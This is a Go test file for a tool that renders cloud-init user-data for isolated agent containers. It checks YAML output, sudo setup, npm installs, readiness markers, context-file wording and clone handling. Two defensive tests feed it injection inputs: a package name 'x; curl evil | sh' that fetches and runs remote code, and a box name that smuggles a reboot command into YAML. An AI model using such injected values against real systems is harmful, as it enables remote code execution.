package templates

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"github.com/box-isolation/box/internal/testenv/tier"
)

// incusExecPATH is the PATH Incus sets for `incus exec` when the caller gives
// none, i.e. what a non-interactive `box exec N -- claude` sees.
const incusExecPATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

// userData is the parsed-back shape of what UserData renders; parsing it is
// what proves the output is valid YAML.
type userData struct {
	Users []struct {
		Name       string `yaml:"name"`
		Gecos      string `yaml:"gecos"`
		Homedir    string `yaml:"homedir"`
		Shell      string `yaml:"shell"`
		LockPasswd bool   `yaml:"lock_passwd"`
		Sudo       string `yaml:"sudo"`
	} `yaml:"users"`
	PackageUpdate  bool     `yaml:"package_update"`
	PackageUpgrade bool     `yaml:"package_upgrade"`
	Packages       []string `yaml:"packages"`
	WriteFiles     []struct {
		Path        string `yaml:"path"`
		Owner       string `yaml:"owner"`
		Permissions string `yaml:"permissions"`
		Defer       bool   `yaml:"defer"`
		Content     string `yaml:"content"`
	} `yaml:"write_files"`
	Runcmd []string `yaml:"runcmd"`
}

func render(t *testing.T, tp *Template) (string, userData) {
	t.Helper()
	out, err := tp.UserData(RenderOptions{BoxName: "mybox", BoxVersion: "v1.2.3"})
	require.NoError(t, err)
	require.True(t, strings.HasPrefix(out, "#cloud-config\n"), "user-data must start with #cloud-config, got %q", firstLine(out))
	var ud userData
	dec := yaml.NewDecoder(strings.NewReader(out))
	dec.KnownFields(true) // a key we did not expect here is a key we did not mean to write
	require.NoError(t, dec.Decode(&ud), "user-data is not valid YAML:\n%s", out)
	return out, ud
}

func firstLine(s string) string { l, _, _ := strings.Cut(s, "\n"); return l }

func TestUserDataAll(t *testing.T) {
	all, err := Builtin()
	require.NoError(t, err)
	for i := range all {
		tp := &all[i]
		t.Run(tp.Name, func(t *testing.T) {
			out, ud := render(t, tp)
			require.Contains(t, out, `"mybox"`)
			require.Contains(t, out, "v1.2.3")

			require.Len(t, ud.Users, 1)
			u := ud.Users[0]
			require.Equal(t, tp.User, u.Name)
			require.Equal(t, "/home/"+tp.User, u.Homedir)
			require.True(t, u.LockPasswd, "the user has no password")
			require.Equal(t, "ALL=(ALL) NOPASSWD:ALL", u.Sudo)
			require.True(t, ud.PackageUpdate)
			require.Contains(t, ud.Packages, "sudo")

			require.NotEmpty(t, ud.Runcmd)
			last := ud.Runcmd[len(ud.Runcmd)-1]
			require.Contains(t, last, ReadyMarker, "the last step writes the ready marker")
			require.Contains(t, last, FailedMarker)
			shellSyntax(t, strings.Join(ud.Runcmd, "\n"))

			if tp.Agent == nil {
				require.Empty(t, ud.WriteFiles)
				require.NotContains(t, out, "npm")
				return
			}
			for _, p := range AgentPackages {
				require.Contains(t, ud.Packages, p)
			}
		})
	}
}

func TestUserDataAgents(t *testing.T) {
	for _, name := range []string{"claude", "codex", "grok"} {
		t.Run(name, func(t *testing.T) {
			tp, err := Get(name)
			require.NoError(t, err)
			_, ud := render(t, tp)
			a := tp.Agent

			// The package is installed globally, into a prefix whose bin is
			// on a non-interactive exec's PATH, and the ready marker
			// depends on the command being there.
			install := "npm install -g --prefix /usr/local --no-fund --no-audit " + a.Package + " "
			require.True(t, containsAny(ud.Runcmd, install), "no %q in runcmd %q", install, ud.Runcmd)
			require.Contains(t, strings.Split(incusExecPATH, ":"), BinDir)
			require.Equal(t, "/usr/local/bin", BinDir, "npm --prefix /usr/local puts commands here")
			require.Contains(t, ud.Runcmd[len(ud.Runcmd)-1], "test -x /usr/local/bin/"+a.Command+" ")

			// The context file lands in the user's home, owned by the user,
			// after the user exists; its folder is handed over too.
			require.Len(t, ud.WriteFiles, 1)
			wf := ud.WriteFiles[0]
			require.Equal(t, tp.ContextPath(), wf.Path)
			require.True(t, strings.HasPrefix(wf.Path, "/home/dev/."+name+"/"), wf.Path)
			require.Equal(t, "dev:dev", wf.Owner)
			require.True(t, wf.Defer, "write_files must wait for the user")
			require.Contains(t, ud.Runcmd, "chown -R dev:dev /home/dev/."+name)

			want, err := tp.ContextFile(RenderOptions{BoxName: "mybox", BoxVersion: "v1.2.3"})
			require.NoError(t, err)
			require.Equal(t, want, wf.Content)
			requireContextClaims(t, a.Name, wf.Content)
		})
	}
}

// requireContextClaims checks what docs/box.md, "Templates", says the context file must
// tell the agent. Whitespace is folded so rewrapping the text does not fail it.
func requireContextClaims(t *testing.T, agent, content string) {
	t.Helper()
	text := strings.Join(strings.Fields(content), " ")
	for _, want := range []string{
		"You are " + agent + ",",
		"**Trust-less.**",
		"**Ephemeral.**",
		"**Creds-free.** No credentials are stored in or provisioned into this box",
		"the operator logs in inside the box themselves",
		"kept through snapshots and clones of the box, never through a secrets store",
		"The box reaches the public internet and nothing else: not the host, not the LAN, not other boxes",
		"A repository's `.box/` folder (legacy name: `.claudebox/`) is its runbook",
		"read its `.box/` folder first",
		"and follow it",
		"Never run `box setup-host`, `box teardown-host` or the drill (`drill run`) inside a box.",
		`the box "mybox"`,
		"box v1.2.3",
	} {
		require.Contains(t, text, want)
	}
	require.NotContains(t, content, "{{", "a template action was left unrendered")
}

func TestContextFileNoAgent(t *testing.T) {
	tp, err := Get("blank")
	require.NoError(t, err)
	_, err = tp.ContextFile(RenderOptions{})
	require.ErrorContains(t, err, `template "blank" has no agent`)
	require.Empty(t, tp.ContextPath())
}

func TestContextFileUnnamed(t *testing.T) {
	tp, err := Get("claude")
	require.NoError(t, err)
	got, err := tp.ContextFile(RenderOptions{})
	require.NoError(t, err)
	require.Contains(t, got, "(unnamed)")
	require.Contains(t, got, "(unknown version)")
}

func TestUserDataRefusesControlCharacters(t *testing.T) {
	tp, err := Get("claude")
	require.NoError(t, err)
	for _, o := range []RenderOptions{
		{BoxName: "a\nruncmd: [reboot]"},
		{BoxVersion: "v1\r"},
	} {
		_, err := tp.UserData(o)
		require.ErrorContains(t, err, "control character")
	}
}

func TestUserDataRevalidates(t *testing.T) {
	tp, err := Get("claude")
	require.NoError(t, err)
	tp.Agent.Package = "x; curl evil | sh"
	_, err = tp.UserData(RenderOptions{})
	require.ErrorContains(t, err, "not an npm package name")
}

func TestUserDataContextInHome(t *testing.T) {
	tp, err := Parse("t", []byte(strings.Replace(validYAML, "~/.agent/AGENTS.md", "~/AGENTS.md", 1)))
	require.NoError(t, err)
	_, ud := render(t, tp)
	require.Equal(t, "/home/dev/AGENTS.md", ud.WriteFiles[0].Path)
	for _, c := range ud.Runcmd {
		require.NotContains(t, c, "chown", "the home folder is the user's already")
	}
}

// The marker line is the one place where shell logic decides what box sees;
// run it for real in a temporary folder.
func TestMarkerLine(t *testing.T) {
	sh := lookSh(t)
	for _, tc := range []struct {
		name      string
		checks    []check
		ready     string
		failedHas []string
	}{
		{name: "all pass", checks: []check{{"true", "a"}, {"true", "b"}}, ready: "tpl\n"},
		{name: "no checks", ready: "tpl\n"},
		{name: "one fails", checks: []check{{"true", "first broke"}, {"false", "second broke"}},
			failedHas: []string{"second broke; see /var/log/cloud-init-output.log"}},
		{name: "two fail", checks: []check{{"false", "first broke"}, {"false", "second broke"}},
			failedHas: []string{"first broke; second broke; see"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "box")
			out, err := exec.Command(sh, "-c", markerLine(dir, "tpl", tc.checks)).CombinedOutput()
			require.NoError(t, err, "%s", out)
			ready, rerr := os.ReadFile(filepath.Join(dir, "ready"))
			failed, ferr := os.ReadFile(filepath.Join(dir, "failed"))
			_, terr := os.Stat(filepath.Join(dir, "failed.tmp"))
			require.True(t, os.IsNotExist(terr), "temporary file left behind")
			if tc.ready != "" {
				require.NoError(t, rerr)
				require.Equal(t, tc.ready, string(ready))
				require.True(t, os.IsNotExist(ferr), "both markers written")
				return
			}
			require.True(t, os.IsNotExist(rerr), "ready written despite a failed check")
			require.NoError(t, ferr)
			for _, want := range tc.failedHas {
				require.Contains(t, string(failed), want)
			}
		})
	}
}

func shellSyntax(t *testing.T, script string) {
	t.Helper()
	out, err := exec.Command(lookSh(t), "-n", "-c", script).CombinedOutput()
	require.NoError(t, err, "runcmd is not valid sh: %s\n%s", out, script)
}

func lookSh(t *testing.T) string {
	t.Helper()
	return tier.Tool(t, "sh", "dash") // a POSIX sh checks the rendered shell
}

func containsAny(list []string, sub string) bool {
	for _, s := range list {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// A clone's user-data keeps its source's user and checks and installs
// nothing: no packages, no apt update, no npm, no write_files (which would
// overwrite the context file the operator may have changed). A clone of a
// clone gets the same.
func TestForClone(t *testing.T) {
	all, err := Builtin()
	require.NoError(t, err)
	for i := range all {
		tp := &all[i]
		t.Run(tp.Name, func(t *testing.T) {
			src, ud := render(t, tp)
			out, ok := ForClone(src, "work2")
			require.True(t, ok)
			require.True(t, strings.HasPrefix(out, "#cloud-config\n"+renderedBy+`for the clone "work2": `), firstLine(out))
			var cl userData
			dec := yaml.NewDecoder(strings.NewReader(out))
			dec.KnownFields(true)
			require.NoError(t, dec.Decode(&cl), out)
			assert.Equal(t, ud.Users, cl.Users, "the same user, with its sudo")
			assert.False(t, cl.PackageUpdate)
			assert.False(t, cl.PackageUpgrade)
			assert.Empty(t, cl.Packages)
			assert.Empty(t, cl.WriteFiles)
			require.Equal(t, []string{"rm -f " + ReadyMarker + " " + FailedMarker, ud.Runcmd[len(ud.Runcmd)-1]}, cl.Runcmd,
				"the inherited markers cleared, then the source's checks write the clone's own")
			shellSyntax(t, strings.Join(cl.Runcmd, "\n"))

			again, ok := ForClone(out, "work3")
			require.True(t, ok, "a clone of a clone")
			assert.Equal(t, strings.Replace(out, `"work2"`, `"work3"`, 1), again)
		})
	}
}

// User-data box did not render, or that was edited since (a key box does
// not write, no report at the end), is not box's to change.
func TestForCloneLeavesOtherUserData(t *testing.T) {
	tp, err := Get("claude")
	require.NoError(t, err)
	src, _ := render(t, tp)
	for name, ud := range map[string]string{
		"empty":           "",
		"not cloud-init":  "#!/bin/sh\necho hi\n",
		"someone else's":  "#cloud-config\npackages: [vim]\n",
		"a key added":     src + "bootcmd: [reboot]\n",
		"no report":       strings.Split(src, "  - mkdir -p "+MarkerDir)[0],
		"header only":     "#cloud-config\n" + renderedBy + "x\n",
		"not yaml at all": "#cloud-config\n" + renderedBy + "x\n: : :\n",
	} {
		t.Run(name, func(t *testing.T) {
			_, ok := ForClone(ud, "c")
			assert.False(t, ok)
		})
	}
}
